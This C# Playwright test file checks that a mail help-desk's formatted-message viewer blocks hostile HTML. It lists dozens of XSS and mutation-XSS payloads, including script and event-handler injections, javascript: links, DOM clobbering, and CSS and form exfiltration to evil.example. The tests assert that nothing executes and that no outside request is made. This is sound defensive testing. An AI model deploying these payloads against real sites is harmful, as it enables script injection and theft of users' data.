using System.Collections.Concurrent;
using Hub.Desk.Tests.Hosts;
using Hub.Testing;
using Microsoft.Playwright;
using Xunit;
using static Microsoft.Playwright.Assertions;

namespace Hub.Desk.Tests.Journeys;

/// <summary>Formatted mail in a real browser: whatever stands in it runs nothing, asks nobody and leads nowhere, with the page's policy switched off as well as on.</summary>
public sealed class HostileMailJourney(Stage stage)
{
    /// <summary>The usual ways in: scripts, handlers, styles that read, frames, forms, refreshes, named elements.</summary>
    private static readonly string[] Usual =
    [
        "<script>top.owned=1</script>", "<img src=x onerror=\"top.owned=2\">", "<svg onload=\"top.owned=3\"></svg>", "<svg><script>top.owned=4</script></svg>", "<body onload=\"top.owned=5\">",
        "<iframe srcdoc=\"<script>top.owned=6</script>\"></iframe>", "<iframe src=\"javascript:top.owned=7\"></iframe>",
        "<object data=\"data:text/html,<script>top.owned=8</script>\"></object>", "<embed src=\"javascript:top.owned=9\">", "<a href=\"javascript:top.owned=10\">click me</a>",
        "<a href=\" java\tscript:top.owned=11\">click me</a>", "<a href=\"data:text/html,<script>top.owned=12</script>\">click me</a>", "<a href=\"vbscript:x\">click me</a>",
        "<form action=\"https://evil.example/steal\"><input name=q><button formaction=\"javascript:top.owned=13\">click me</button></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">", "<base href=\"https://evil.example/\">", "<link rel=\"stylesheet\" href=\"https://evil.example/a.css\">",
        "<link rel=\"prefetch\" href=\"https://evil.example/p\">",
        "<style>@import 'https://evil.example/b.css'; body{background:url(https://evil.example/c.png)} input[value^=a]{background:url(https://evil.example/d)}</style>",
        "<div style=\"background:url(https://evil.example/e.png)\">styled</div>", "<div style=\"position:fixed;inset:0;z-index:9999;background:red\">overlay</div>",
        "<div style=\"width:expression(top.owned=14)\">old</div>", "<table background=\"https://evil.example/f.png\"><tr><td>cell</td></tr></table>",
        "<img src=\"https://evil.example/pixel.png\" srcset=\"https://evil.example/g.png 2x\">",
        "<picture><source srcset=\"https://evil.example/h.png\"><img src=\"//evil.example/i.png\"></picture>",
        "<video src=\"https://evil.example/j.mp4\" autoplay poster=\"https://evil.example/k.png\"></video>", "<audio src=\"https://evil.example/l.mp3\" autoplay></audio>",
        "<details open ontoggle=\"top.owned=22\"><summary>s</summary></details>", "<input autofocus onfocus=\"top.owned=23\">", "<marquee onstart=\"top.owned=24\">m</marquee>",
        "<a name=\"body\"></a><img name=\"querySelector\"><form id=\"location\"><input name=\"href\"></form><a id=\"fetch\"></a>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>top.owned=25</script></svg>#x\"></use></svg>",
        "<svg><animate attributeName=href values=javascript:top.owned=26 /><a><text>click me</text></a></svg>",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.owned=27'/>\">", "<div is=\"x-y\" slot=\"z\">custom</div>",
    ];

    /// <summary>What is read as something else than it seems. Each can swallow what follows it, so each has a letter of its own.</summary>
    private static readonly string[] Twisted =
    [
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=top.owned=15&gt;\">", "<noscript><p title=\"</noscript><img src=x onerror=top.owned=16>\">",
        "<svg></p><style><a id=\"</style><img src=x onerror=top.owned=17>\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=top.owned=18>",
        "<select><template shadowrootmode=open><img src=x onerror=top.owned=19></template></select>", "<xmp><p title=\"</xmp><img src=x onerror=top.owned=20>\">",
        "<template><script>top.owned=21</script></template>", "\u003c\u0000script>top.owned=28</script>", "<ScRiPt/x>top.owned=29</sCrIpT>", "<p><<b>script>top.owned=30</b></script>",
    ];

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task HE1_HE2_HE4_HE5_HE6_HE9_nothing_in_a_formatted_mail_runs_asks_or_leads_anywhere(bool policyOff)
    {
        Chromium.SkipIfMissing();
        var asked = new ConcurrentBag<string>();
        var desk = await stage.DeskAsync(bypassPolicy: policyOff);
        desk.Page.Context.Request += (_, request) => asked.Add(request.Url);
        desk.Page.Context.Page += (_, page) => asked.Add("page " + page.Url);
        foreach (var (number, piece) in Twisted.Prepend(string.Join("\n", Usual.Select((piece, at) => $"<div>piece {at} {piece}</div>"))).Index())
        {
            await LookAsync(desk, $"Hostile {(policyOff ? "open" : "shut")} {number}.", piece);
        }

        Assert.True(await desk.Page.EvaluateAsync<bool>("() => window.owned === undefined && typeof fetch === 'function'"));
        Assert.DoesNotContain(asked, url => !url.StartsWith(stage.Hub, StringComparison.Ordinal) && !url.StartsWith("data:", StringComparison.Ordinal) && !url.StartsWith("blob:", StringComparison.Ordinal));
    }

    [Fact]
    public async Task HE3_HE7_pictures_elsewhere_wait_until_asked_and_heads_stay_text()
    {
        Chromium.SkipIfMissing();
        const string subject = "<img src=x onerror=top.owned=1>";
        Assert.Equal(System.Net.HttpStatusCode.OK, await MailWebhook.PostAsync(new Uri(stage.Hub), "mail-demo", "mail-demo-secret", MailWebhook.Parts(
            "\"<b>Eve</b>\" <eve@evil.example>", "support@tsumugi.example", subject, "plain words", "<p>With a picture</p><img src=\"https://evil.example/pixel.png\" alt=\"pixel\">", ("<i>a.html", "text/html", null, "<script>1</script>"u8.ToArray()))));
        var desk = await stage.DeskAsync();
        var asked = new ConcurrentBag<string>();
        desk.Page.Request += (_, request) => asked.Add(request.Url);
        await desk.OpenAsync(subject);
        await Expect(desk.Message(subject)).ToBeVisibleAsync();
        await desk.Page.GetByRole(AriaRole.Button, new() { Name = "Show as formatted" }).ClickAsync();
        await Expect(desk.Page.GetByText("1 picture from another server is not shown.")).ToBeVisibleAsync();
        Assert.DoesNotContain(asked, url => url.Contains("/images/", StringComparison.Ordinal));
        await desk.Page.GetByRole(AriaRole.Button, new() { Name = "Show them" }).ClickAsync();
        await Eventually.HoldsAsync(() => Task.FromResult(asked.Any(url => url.EndsWith("/images/0", StringComparison.Ordinal))));
        Assert.DoesNotContain(asked, url => url.Contains("evil.example", StringComparison.Ordinal));
        Assert.True(await desk.Page.EvaluateAsync<bool>("() => window.owned === undefined"));
        Assert.Equal(0, await desk.Page.Locator("img[src='x']").CountAsync());
    }

    private async Task LookAsync(DeskWindow desk, string subject, string piece)
    {
        Assert.Equal(System.Net.HttpStatusCode.OK, await MailWebhook.PostAsync(new Uri(stage.Hub), "mail-demo", "mail-demo-secret", MailWebhook.Parts(
            "Mallory <mallory@evil.example>", "support@tsumugi.example", subject, "plain words", $"<p>first words</p>{piece}<p>last words</p>")));
        await desk.OpenAsync(subject);
        await desk.Page.GetByRole(AriaRole.Button, new() { Name = "Show as formatted" }).ClickAsync();
        var frame = desk.Page.FrameLocator("iframe[title='Formatted message']");
        await Expect(frame.GetByText("first words")).ToBeVisibleAsync();
        foreach (var link in await frame.GetByText("click me").AllAsync())
        {
            await link.ClickAsync(new() { Force = true });
        }

        var inside = desk.Page.Frames.Single(one => one.Url.EndsWith("/letter-frame", StringComparison.Ordinal));
        Assert.Equal(0, await inside.Locator("script, iframe, object, embed, form, input, button, meta[http-equiv], base, link, svg, math, template, style:not(head style), video, audio").CountAsync());
        Assert.Equal("", await desk.Page.EvaluateAsync<string>("() => [...document.querySelector('iframe[title=\"Formatted message\"]').contentDocument.querySelectorAll('*')].flatMap(e => [...e.attributes].filter(a => /^on/i.test(a.name) || /^\\s*(javascript|vbscript|data:text)/i.test(a.value) || /position:\\s*fixed/i.test(a.value)).map(a => a.name + '=' + a.value)).join('\\n')"));
        Assert.Equal("allow-popups allow-popups-to-escape-sandbox allow-same-origin", await desk.Page.Locator("iframe[title='Formatted message']").GetAttributeAsync("sandbox"));
        Assert.StartsWith(stage.Hub, desk.Page.Url, StringComparison.Ordinal);
    }
}
